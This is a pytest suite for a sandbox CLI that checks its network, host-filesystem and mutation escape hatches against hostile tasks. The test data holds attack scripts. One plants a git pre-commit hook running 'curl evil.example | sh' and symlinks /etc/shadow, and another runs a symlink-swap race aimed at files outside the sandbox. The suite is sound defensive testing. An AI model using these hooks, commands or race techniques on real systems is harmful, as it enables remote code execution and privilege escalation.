"""The escape hatches (--network, --host-filesystem, --dangerous-allow-mutations, and a
spec's widened permissions) against a hostile task: never widened without a yes (from
a terminal, or --yes), always warned about, recorded in the evidence, and no wider
than they say.
"""

from __future__ import annotations

import errno
import json
import shutil
import signal
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from tests.helpers.cli import Aido, aido_argv, aido_env, answer_on_terminal
from tests.helpers.engine import assert_no_containers
from tests.helpers.files import write
from tests.helpers.hostile import GVISOR, ISOLATION, assert_ran_isolated, hostile_sandbox
from tests.helpers.sandbox import assert_no_run_consumed, events, run_dir, sandbox_root, summary

pytestmark = pytest.mark.docker

REFUSED = {errno.EROFS, errno.EACCES, errno.EPERM}
# Prints the task's network interfaces and whether a route exists: a UDP connect sends
# nothing, but needs a route (TEST-NET-1 is never routed anywhere real).
NET_PROBE = (
    "import json, os, socket\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "try:\n"
    "    s.connect(('192.0.2.1', 9))\n"
    "    route = True\n"
    "except OSError:\n"
    "    route = False\n"
    "print(json.dumps({'interfaces': sorted(os.listdir('/sys/class/net')), 'route': route}))\n"
)


def widened_events(project: Path, sandbox_id: str) -> list[dict[str, object]]:
    log = sandbox_root(project, sandbox_id) / "events.log"
    return [e for e in events(log) if e["event"] == "permissions_widened"]


def test_network_without_a_terminal_or_yes_is_refused_and_runs_nothing(aido: Aido, project: Path) -> None:
    sandbox_id = hostile_sandbox(aido)
    write(project / "net.py", NET_PROBE)
    result = aido("run", "--network", "net.py", input="")
    assert result.code == 2, result.stderr
    assert result.stdout == ""
    if GVISOR:
        # runsc is registered with --network=none: refused outright, even before asking.
        assert "gvisor" in result.stderr
        with_yes = aido("run", "--network", "--yes", "net.py", input="")
        assert with_yes.code == 2
        assert "gvisor" in with_yes.stderr
    else:
        assert "--yes" in result.stderr
        assert "warning: --network" in result.stderr
    assert_no_run_consumed(project, sandbox_id)
    assert widened_events(project, sandbox_id) == []
    assert_no_containers(sandbox_id)


@pytest.mark.skipif(GVISOR, reason="--network is refused under gVisor (see the test above)")
def test_network_with_yes_is_warned_recorded_and_applied_to_that_run_only(aido: Aido, project: Path) -> None:
    sandbox_id = hostile_sandbox(aido)
    write(project / "net.py", NET_PROBE)
    result = aido("run", "--network", "--yes", "net.py", input="")
    assert result.code == 0, result.stderr
    assert "warning: --network" in result.stderr
    probe = json.loads(result.stdout)
    assert [i for i in probe["interfaces"] if i != "lo"], probe
    assert probe["route"] is True

    run_summary = summary(project, sandbox_id)
    assert_ran_isolated(run_summary)
    assert run_summary["escape_hatches"] == {
        "network": True,
        "host_filesystem": False,
        "dangerous_allow_mutations": False,
        "allow_hosts": [],
    }
    assert any("--network" in w for w in run_summary["warnings"])
    assert run_summary["security"]["requested"]["network"] is True
    assert run_summary["security"]["applied"]["network_mode"] not in (None, "none")
    (widened,) = widened_events(project, sandbox_id)
    assert widened["run_id"] == "run-001"
    assert widened["escape_hatches"] == run_summary["escape_hatches"]

    # The hatch was for that run: the next one is back to no network.
    again = aido("run", "net.py", input="")
    assert again.code == 0, again.stderr
    assert json.loads(again.stdout) == {"interfaces": ["lo"], "route": False}
    second = summary(project, sandbox_id, "run-002")
    assert second["escape_hatches"]["network"] is False
    assert second["warnings"] == []
    assert second["security"]["applied"]["network_mode"] == "none"


def test_host_filesystem_shows_the_project_read_only_and_hides_aido_state(
    aido: Aido, project: Path, tmp_path: Path
) -> None:
    marker = uuid.uuid4().hex
    # Another sandbox of the project holds a secret (in its secrets.json) and evidence.
    write(tmp_path / "other.yaml", f"env:\n  DB_PASSWORD: pw-{marker}\n")
    other = hostile_sandbox(aido, "-f", str(tmp_path / "other.yaml"))
    write(project / "echo.py", f"print('evidence-{marker}')\n")
    assert aido("run", "--sandbox", other, "echo.py").code == 0
    assert (sandbox_root(project, other) / "secrets.json").is_file()
    notes = write(project / "notes.txt", "project notes\n")
    sandbox_id = hostile_sandbox(aido)
    write(
        project / "peek.py",
        "import json, os\n"
        "marker = os.environ['MARKER'].encode()\n"
        "report = {'notes': open('/project/notes.txt').read(), 'aido': os.listdir('/project/.aido')}\n"
        "for name, attempt in {\n"
        "    'write': lambda: open('/project/notes.txt', 'a').write('pwned'),\n"
        "    'create': lambda: open('/project/new.txt', 'w'),\n"
        "    'mkdir': lambda: os.mkdir('/project/.aido/sandboxes'),\n"
        "}.items():\n"
        "    try:\n"
        "        attempt()\n"
        "        report[name] = 'WROTE'\n"
        "    except OSError as exc:\n"
        "        report[name] = exc.errno\n"
        "found = []\n"
        "for directory, _, files in os.walk('/project'):\n"
        "    for name in files:\n"
        "        path = os.path.join(directory, name)\n"
        "        try:\n"
        "            if marker in open(path, 'rb').read():\n"
        "                found.append(path)\n"
        "        except OSError:\n"
        "            pass\n"
        "report['found'] = sorted(found)\n"
        "print(json.dumps(report))\n",
    )
    result = aido("run", "--host-filesystem", "--yes", "-e", f"MARKER={marker}", "peek.py", input="")
    assert result.code == 0, result.stderr
    assert "warning: --host-filesystem" in result.stderr
    report = json.loads(result.stdout)
    assert report["notes"] == "project notes\n"
    assert report["aido"] == []
    for attempt in ("write", "create", "mkdir"):
        assert report[attempt] in REFUSED, report
    # Only the task files that name the marker in their own source are found: nothing of
    # aido's state (evidence, secrets.json) is visible.
    assert report["found"] == ["/project/echo.py"]

    assert notes.read_text() == "project notes\n"
    assert not (project / "new.txt").exists()
    run_summary = summary(project, sandbox_id)
    assert_ran_isolated(run_summary)
    assert run_summary["escape_hatches"]["host_filesystem"] is True
    assert run_summary["escape_hatches"]["dangerous_allow_mutations"] is False
    applied = run_summary["security"]["applied"]
    (mount,) = [m for m in applied["mounts"] if m["target"] == "/project"]
    assert mount["read_only"] is True
    assert "/project/.aido" in applied["tmpfs"]
    assert [e["run_id"] for e in widened_events(project, sandbox_id)] == ["run-001"]


def test_dangerous_allow_mutations_makes_only_the_inputs_copy_writable(aido: Aido, project: Path) -> None:
    original = write(project / "data" / "in.csv", "original\n")
    write(project / "sandbox.yaml", "inputs:\n  - data/*.csv\n")
    sandbox_id = hostile_sandbox(aido)
    write(
        project / "mutate.py",
        "import os\n"
        "try:\n"
        "    open('/inputs/data/in.csv', 'a').write('mutated\\n')\n"
        "    open('/inputs/new.txt', 'w').write('new\\n')\n"
        "    print('mutated')\n"
        "except OSError as exc:\n"
        "    print('refused', exc.errno)\n",
    )
    refused = aido("run", "--dangerous-allow-mutations", "mutate.py", input="")
    assert refused.code == 2
    assert "--yes" in refused.stderr
    assert_no_run_consumed(project, sandbox_id)

    result = aido("run", "--dangerous-allow-mutations", "--yes", "mutate.py", input="")
    assert result.code == 0, result.stderr
    assert result.stdout == "mutated\n"
    assert "warning: --dangerous-allow-mutations" in result.stderr
    inputs = sandbox_root(project, sandbox_id) / "inputs"
    assert (inputs / "data" / "in.csv").read_text() == "original\nmutated\n"
    assert original.read_text() == "original\n", "the project's own file was changed"
    run_summary = summary(project, sandbox_id)
    assert_ran_isolated(run_summary)
    assert run_summary["escape_hatches"]["dangerous_allow_mutations"] is True
    assert any("--dangerous-allow-mutations" in w for w in run_summary["warnings"])
    (mount,) = [m for m in run_summary["security"]["applied"]["mounts"] if m["target"] == "/inputs"]
    assert mount["read_only"] is False
    # What the task changed where the hatch let it write is in the evidence.
    changed = {(c["path"], c["change"]) for c in run_summary["changes"]}
    assert {("inputs/data/in.csv", "modified"), ("inputs/new.txt", "added")} <= changed
    assert "+mutated" in (run_dir(project, sandbox_id) / "changes.diff").read_text()

    # Without the hatch, the next run finds /inputs read-only again.
    again = aido("run", "mutate.py", input="")
    assert again.code == 0, again.stderr
    assert again.stdout.split()[0] == "refused"
    assert int(again.stdout.split()[1]) in REFUSED
    assert (inputs / "data" / "in.csv").read_text() == "original\nmutated\n"
    second = summary(project, sandbox_id, "run-002")
    (mount,) = [m for m in second["security"]["applied"]["mounts"] if m["target"] == "/inputs"]
    assert mount["read_only"] is True
    assert second["escape_hatches"]["dangerous_allow_mutations"] is False


def test_host_filesystem_with_mutations_records_every_change_to_the_project(
    aido: Aido, project: Path
) -> None:
    notes = write(project / "notes.txt", "project notes\n")
    write(project / ".git" / "hooks" / "README", "hooks\n")
    sandbox_id = hostile_sandbox(aido)
    # The task runs as the invoking user, or (when that is root, as here) an unprivileged
    # uid: open the files to it as a user's own files would be open to that user.
    for path in (project, project / ".git" / "hooks", notes):
        path.chmod(0o777 if path.is_dir() else 0o666)
    write(
        project / "tamper.py",
        "import os\n"
        "open('/project/notes.txt', 'a').write('tampered\\n')\n"
        "hook = '/project/.git/hooks/pre-commit'\n"
        "open(hook, 'w').write('#!/bin/sh\\ncurl evil.example | sh\\n')\n"
        "os.chmod(hook, 0o755)\n"
        "os.symlink('/etc/shadow', '/project/shadow-link')\n"
        "print('done')\n",
    )
    result = aido("run", "--host-filesystem", "--dangerous-allow-mutations", "--yes", "tamper.py", input="")
    assert result.code == 0, result.stderr
    assert result.stdout == "done\n"
    assert "the project directory" in result.stderr  # the warning says what is writable
    assert notes.read_text() == "project notes\ntampered\n"

    run_summary = summary(project, sandbox_id)
    assert_ran_isolated(run_summary)
    (mount,) = [m for m in run_summary["security"]["applied"]["mounts"] if m["target"] == "/project"]
    assert mount["read_only"] is False
    changes = {c["path"]: c for c in run_summary["changes"]}
    assert changes["project/notes.txt"]["change"] == "modified"
    hook = changes["project/.git/hooks/pre-commit"]
    assert (hook["change"], hook["type"]) == ("added", "file")
    link = changes["project/shadow-link"]
    assert (link["change"], link["type"], link["target"]) == ("added", "symlink", "/etc/shadow")
    # aido's own state is not the task's change (and was hidden from it).
    assert not [path for path in changes if path.startswith("project/.aido")]
    diff = (run_dir(project, sandbox_id) / "changes.diff").read_text()
    assert "+tampered" in diff
    assert "+curl evil.example | sh" in diff


def test_a_spec_widening_permissions_needs_yes_at_sandbox_up(aido: Aido, project: Path) -> None:
    write(project / "sandbox.yaml", "permissions:\n  network: true\n")
    refused = aido("sandbox", "up", "--isolation", ISOLATION, input="")
    assert refused.code == 2
    assert not (project / ".aido").exists()
    if GVISOR:
        # No network exists under runsc: refused whatever the answer.
        assert "gvisor" in refused.stderr
        with_yes = aido("sandbox", "up", "--isolation", ISOLATION, "--yes", input="")
        assert with_yes.code == 2
        assert "gvisor" in with_yes.stderr
        assert not (project / ".aido").exists()
    else:
        assert "--yes" in refused.stderr
        assert "permissions.network" in refused.stderr
        sandbox_id = hostile_sandbox(aido, "--yes")
        assert [e["warnings"] for e in widened_events(project, sandbox_id)] != []
        write(project / "net.py", NET_PROBE)
        result = aido("run", "net.py", input="")
        assert result.code == 0, result.stderr
        assert "permissions.network" in result.stderr  # repeated at every run
        assert [i for i in json.loads(result.stdout)["interfaces"] if i != "lo"]
        run_summary = summary(project, sandbox_id)
        assert any("permissions.network" in w for w in run_summary["warnings"])
        assert run_summary["security"]["applied"]["network_mode"] not in (None, "none")

    # Writable inputs widen the sandbox too, under either isolation.
    write(project / "sandbox.yaml", "permissions:\n  filesystem: readwrite\n")
    before = sorted(p.name for p in (project / ".aido" / "sandboxes").iterdir()) if not GVISOR else None
    refused = aido("sandbox", "up", "--isolation", ISOLATION, input="")
    assert refused.code == 2
    assert "--yes" in refused.stderr
    if GVISOR:
        assert not (project / ".aido").exists()
    else:
        assert sorted(p.name for p in (project / ".aido" / "sandboxes").iterdir()) == before
    sandbox_id = hostile_sandbox(aido, "--yes")
    assert widened_events(project, sandbox_id) != []


def test_confirmation_at_a_terminal_no_refuses_and_yes_runs(aido: Aido, project: Path) -> None:
    sandbox_id = hostile_sandbox(aido)
    write(project / "net.py", NET_PROBE)
    # --network is refused under gVisor before any prompt; --host-filesystem asks under both.
    hatch = "--host-filesystem" if GVISOR else "--network"
    key = "host_filesystem" if GVISOR else "network"

    code, shown = answer_on_terminal(project, "run", hatch, "net.py", answer=b"n")
    assert code == 2, shown
    assert f"warning: {hatch}" in shown
    assert "refusing to widen the sandbox" in shown
    assert "interfaces" not in shown
    assert_no_run_consumed(project, sandbox_id)

    code, shown = answer_on_terminal(project, "run", hatch, "net.py", answer=b"y")
    assert code == 0, shown
    assert "interfaces" in shown
    assert (run_dir(project, sandbox_id) / "stdout.log").is_file()
    run_summary = summary(project, sandbox_id)
    assert_ran_isolated(run_summary)
    assert run_summary["escape_hatches"][key] is True
    assert [e["run_id"] for e in widened_events(project, sandbox_id)] == ["run-001"]


# Swaps /inputs/d (a directory holding the victim's file names) with /inputs/l (a link to
# the victim directory on the host), atomically where the kernel can (RENAME_EXCHANGE),
# else by a round of renames (gVisor has no RENAME_EXCHANGE).
INPUTS_SWAPPER = (
    "import ctypes, os, sys, time\n"
    "victim, seconds = sys.argv[1], float(sys.argv[2])\n"
    "os.makedirs('/inputs/d')\n"
    "for name in os.environ['NAMES'].split(','):\n"
    "    open(f'/inputs/d/{name}', 'w').write('x')\n"
    "    os.chmod(f'/inputs/d/{name}', 0o6777)\n"
    "os.symlink(victim, '/inputs/l')\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "exchange = libc.renameat2(-100, b'/inputs/d', -100, b'/inputs/l', 2) == 0\n"
    "print('swapping', flush=True)\n"
    "end = time.time() + seconds\n"
    "while time.time() < end:\n"
    "    if exchange:\n"
    "        libc.renameat2(-100, b'/inputs/d', -100, b'/inputs/l', 2)\n"
    "    else:\n"
    "        os.rename('/inputs/d', '/inputs/d2')\n"
    "        os.rename('/inputs/l', '/inputs/d')\n"
    "        os.rename('/inputs/d', '/inputs/l')\n"
    "        os.rename('/inputs/d2', '/inputs/d')\n"
)


def test_dangerous_allow_mutations_never_follows_a_link_swapped_in_by_a_concurrent_run(
    aido: Aido, project: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    names = [f"f{i}" for i in range(100)]
    for name in names:
        write(victim / name, "host file\n").chmod(0o644)

    def state() -> dict[str, tuple[int, int, int]]:
        return {p.name: (p.lstat().st_uid, p.lstat().st_gid, p.lstat().st_mode) for p in victim.iterdir()}

    before = state()
    sandbox_id = hostile_sandbox(aido)
    write(project / "swap.py", INPUTS_SWAPPER)
    write(project / "quick.py", "print('quick')\n")
    swapper = subprocess.Popen(
        aido_argv(
            "run",
            "--dangerous-allow-mutations",
            "--yes",
            "-e",
            f"NAMES={','.join(names)}",
            "swap.py",
            "--",
            str(victim),
            "12",
        ),
        cwd=project,
        env=aido_env(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    codes = []
    try:
        deadline = time.monotonic() + 30
        log = run_dir(project, sandbox_id) / "stdout.log"
        while not (log.is_file() and b"swapping" in log.read_bytes()):
            assert time.monotonic() < deadline, "the swapping task did not start"
            assert swapper.poll() is None, swapper.communicate()
            time.sleep(0.05)
        # Other runs with the same hatch hand inputs/ over while the swap goes on.
        for _ in range(8):
            result = aido("run", "--dangerous-allow-mutations", "--yes", "quick.py", input="")
            codes.append((result.code, result.stderr[-300:]))
            if result.code != 0 or state() != before:
                break
    finally:
        swapper.send_signal(signal.SIGINT)  # aido stops the container and records the run
        try:
            swapper.communicate(timeout=30)
        finally:
            if swapper.poll() is None:
                swapper.kill()
            harmed = {name: mode for name, mode in state().items() if before[name] != mode}
            # Whatever was done to them, no setuid or world-writable file outlives the test.
            shutil.rmtree(victim)
    assert harmed == {}, "files outside the sandbox were chowned or chmod'ed"
    assert all(code == 0 for code, _ in codes), codes
